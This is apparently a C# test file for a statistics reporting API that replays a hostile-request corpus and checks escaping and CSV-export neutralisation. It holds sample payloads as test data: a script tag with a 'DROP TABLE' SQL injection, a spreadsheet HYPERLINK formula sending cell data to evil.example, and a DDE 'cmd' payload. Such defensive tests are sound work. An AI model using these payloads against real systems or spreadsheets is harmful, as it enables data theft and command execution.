using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using Indicators.Tests.Support;

namespace Indicators.Tests.Reliability;

public sealed class BadInputTestsOnSqlite(SqliteApi api) : BadInputTests(api), IClassFixture<SqliteApi>;

public sealed class BadInputTestsOnSqlServer(SqlServerApi api) : BadInputTests(api), IClassFixture<SqlServerApi>;

/// <summary>
/// The hostile-request corpus (<c>bad-inputs.json</c> beside this file): each request answers the expected status and
/// problem type, as <c>application/problem+json</c>, without a stack trace, SQL text or internal path, and leaves
/// every table as it was.
/// </summary>
public abstract class BadInputTests(ApiFixture api)
{
    private static readonly string[] Leaks = ["   at ", "SELECT ", "INSERT ", "/work/", "/tmp/", "Exception", "SQLite", "Microsoft.", "System."];

    private static readonly Lazy<Dictionary<string, JsonObject>> Corpus = new(() =>
    {
        var file = Path.Combine(AppContext.BaseDirectory, "Reliability", "bad-inputs.json");
        var root = JsonNode.Parse(File.ReadAllText(file))!;
        return root["cases"]!.AsArray().Select(c => c!.AsObject()).ToDictionary(c => (string)c["name"]!);
    });

    public static TheoryData<string> Cases => new(Corpus.Value.Keys);

    [Theory]
    [MemberData(nameof(Cases))]
    public async Task A_hostile_request_is_refused_with_its_problem_and_changes_nothing(string name)
    {
        var c = Corpus.Value[name];
        var before = await api.SnapshotAsync();

        var response = await api.Client(Key(c)).SendAsync(Request(c), TestContext.Current.CancellationToken);

        var text = await response.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
        var status = (HttpStatusCode)(int)c["status"]!;
        foreach (var leak in Leaks)
        {
            Assert.False(text.Contains(leak, StringComparison.Ordinal), $"The answer leaks '{leak}': {Shorten(text)}");
        }
        if (c["type"] is { } type)
        {
            var problem = await response.AssertProblemAsync(status, c["errors"]?.AsArray().Select(e => (string)e!).ToArray() ?? []);
            Assert.Equal("urn:indicators:problem:" + (string)type!, problem.GetProperty("type").GetString());
        }
        else
        {
            Assert.True(status == response.StatusCode, $"Expected {(int)status}, got {(int)response.StatusCode}: {Shorten(text)}");
        }
        Assert.Equal(before, await api.SnapshotAsync());
    }

    [Fact]
    public async Task A_note_holding_markup_and_SQL_is_stored_verbatim_as_data_and_returned_escaped()
    {
        const string note = "<script>alert('x')</script> & \"quoted\" '; DROP TABLE actual_values; -- Báo cáo";
        var body = new { values = new[] { new { indicator = "RETAIL_SALES", orgUnit = "TQ-SD", period = "2021-M11", value = 7.5m, status = "estimate", note } } };
        var created = await api.Client("sd").PostAsJsonAsync("/api/v1/submissions", body, TestContext.Current.CancellationToken);
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);

        var history = await api.Client("reader").GetAsync("/api/v1/values/history?indicator=RETAIL_SALES&orgUnit=TQ-SD&period=2021-M11", TestContext.Current.CancellationToken);
        var text = await history.Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
        Assert.Equal(HttpStatusCode.OK, history.StatusCode);
        Assert.Contains(note, Strings(JsonDocument.Parse(text).RootElement));
        Assert.DoesNotContain("<script>", text);
        Assert.Contains("\\u003Cscript\\u003E", text);
        Assert.Contains("Báo cáo", text);
        Assert.True(await api.CountAsync("actual_values") > 0);
    }

    [Fact]
    public async Task A_formula_in_a_note_is_stored_verbatim_and_neutralised_in_CSV_exports_while_negative_numbers_stay_numbers()
    {
        // OWASP "CSV Injection": text a spreadsheet would evaluate is data here; exported to CSV it is prefixed with a quote.
        const string hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Bấm vào đây\")";
        const string dde = "-2+3+cmd|' /C calc'!A0";
        var sheet = "indicator,orgUnit,period,value,status,note\r\n" +
                    $"GRDP_GROWTH,TQ,2021-Q3,-5,estimate,\"{hyperlink.Replace("\"", "\"\"")}\"\r\n" +
                    $"GRDP_GROWTH,TQ,2021-Q4,-0.5,estimate,{dde}\r\n";
        var created = await api.Client("admin").PostAsync("/api/v1/submissions",
            new StringContent(sheet, Encoding.UTF8, "text/csv"), TestContext.Current.CancellationToken);
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);

        var reader = api.Client("reader");
        var json = await (await reader.GetAsync("/api/v1/values?indicator=GRDP_GROWTH&orgUnit=TQ&year=2021", TestContext.Current.CancellationToken)).JsonAsync();
        Assert.Equal([hyperlink, dde], json.GetProperty("items").EnumerateArray().Select(i => i.GetProperty("note").GetString()));
        Assert.Equal(["-5", "-0.5"], json.GetProperty("items").EnumerateArray().Select(i => i.GetProperty("value").GetRawText()));

        var csv = CsvText.Parse(await reader.GetStringAsync("/api/v1/values?indicator=GRDP_GROWTH&orgUnit=TQ&year=2021&format=csv", TestContext.Current.CancellationToken));
        Assert.Equal(["-5", "-0.5"], csv.Skip(1).Select(r => r[3]));
        Assert.Equal(["'" + hyperlink, "'" + dde], csv.Skip(1).Select(r => r[5]));
        var history = CsvText.Parse(await reader.GetStringAsync("/api/v1/values/history?indicator=GRDP_GROWTH&orgUnit=TQ&period=2021-Q3&format=csv", TestContext.Current.CancellationToken));
        Assert.Equal("'" + hyperlink, history[1][history[0].IndexOf("note")]);
        Assert.Equal("-5", history[1][history[0].IndexOf("value")]);
    }

    [Fact]
    public void The_corpus_covers_every_kind_of_hostile_input_the_issue_names()
    {
        var names = string.Join("\n", Corpus.Value.Keys);
        foreach (var topic in new[] { "zip bomb", "truncated", "not a zip", "external link", "macros", "formula", "shared-string table", "10,001 rows",
                     "unbalanced quote", "NUL", "invalid UTF-8", "UTF-16", "windows-1258", "malformed JSON", "1e400", "NaN", "Infinity", "min is 0",
                     "too many decimals", "10,001 items", "20 MB", "duplicate", "unknown", "SQL injection", "script", "lower-case", "blank", "Cyrillic",
                     "future period", "2020-02-30", "empty body", "content type", "query string", "page",
                     "schedule:", "reporting status", "approval:", "reopening", "huge lists", "unknown field" })
        {
            Assert.Contains(topic, names, StringComparison.OrdinalIgnoreCase);
        }
        Assert.True(Corpus.Value.Count >= 100, $"{Corpus.Value.Count} cases");
    }

    private string? Key(JsonObject c) => c["key"]?.GetValue<string>();

    private static HttpRequestMessage Request(JsonObject c)
    {
        var request = new HttpRequestMessage(new HttpMethod((string)c["method"]!), (string)c["path"]!);
        byte[]? body = null;
        if (c["json"] is { } json)
        {
            body = Encoding.UTF8.GetBytes(json.ToJsonString());
        }
        else if (c["body"] is { } raw)
        {
            body = Encoding.UTF8.GetBytes((string)raw!);
        }
        else if (c["bodyBase64"] is { } b64)
        {
            body = Convert.FromBase64String(((string)b64!).Replace('-', '+').Replace('_', '/'));
        }
        else if (c["generate"] is JsonObject { } sheet && sheet["sheet"] is { } name)
        {
            body = HostileSheets.Body((string)name!);
        }
        else if (c["generate"] is JsonObject generate)
        {
            body = Encoding.UTF8.GetBytes(Generate(generate));
        }
        if (body is not null)
        {
            request.Content = new ByteArrayContent(body);
            var contentType = c["contentType"] is { } ct ? (string)ct! : "application/json";
            if (contentType.Length > 0)
            {
                request.Content.Headers.TryAddWithoutValidation("Content-Type", contentType);
            }
        }
        foreach (var (header, value) in c["headers"]?.AsObject() ?? [])
        {
            request.Headers.TryAddWithoutValidation(header, (string)value!);
        }
        return request;
    }

    private static string Generate(JsonObject g)
    {
        if (g["noteBytes"] is { } size)
        {
            return "{\"values\":[{\"indicator\":\"INDUSTRIAL_OUTPUT\",\"orgUnit\":\"TQ-SD\",\"period\":\"2021-M03\",\"value\":1,\"status\":\"estimate\",\"note\":\"" +
                   new string('x', (int)size) + "\"}]}";
        }
        if (g["schedule"] is { } members)
        {
            // A schedule with n indicators and n reporters (codes that need not exist: the count is refused first).
            var n = (int)members;
            return new JsonObject
            {
                ["name"] = new JsonObject { ["vi"] = "Báo cáo", ["en"] = "Report" },
                ["frequency"] = "month",
                ["cutoff"] = "calendar",
                ["dueDays"] = 5,
                ["indicators"] = new JsonArray([.. Enumerable.Range(0, n).Select(i => (JsonNode)$"X{i}")]),
                ["reporters"] = new JsonArray([.. Enumerable.Range(0, n).Select(i => (JsonNode)$"U{i}")]),
            }.ToJsonString();
        }
        var values = g["items"] is not null;
        var count = (int)(g["items"] ?? g["targets"])!;
        var items = new JsonArray();
        for (var i = 0; i < count; i++)
        {
            var period = $"20{10 + i / 12 % 10:00}-M{i % 12 + 1:00}";
            items.Add(values
                ? new JsonObject { ["indicator"] = "INDUSTRIAL_OUTPUT", ["orgUnit"] = (string?)g["orgUnit"] ?? "TQ-SD", ["period"] = period, ["value"] = i, ["status"] = "estimate" }
                : new JsonObject { ["indicator"] = "INDUSTRIAL_OUTPUT", ["orgUnit"] = "TQ", ["period"] = period, ["kind"] = "plan", ["value"] = i });
        }
        return new JsonObject { [values ? "values" : "targets"] = items }.ToJsonString();
    }

    private static IEnumerable<string> Strings(JsonElement e) => e.ValueKind switch
    {
        JsonValueKind.String => [e.GetString()!],
        JsonValueKind.Object => e.EnumerateObject().SelectMany(p => Strings(p.Value)),
        JsonValueKind.Array => e.EnumerateArray().SelectMany(Strings),
        _ => [],
    };

    private static string Shorten(string text) => text.Length <= 600 ? text : text[..600] + "…";
}
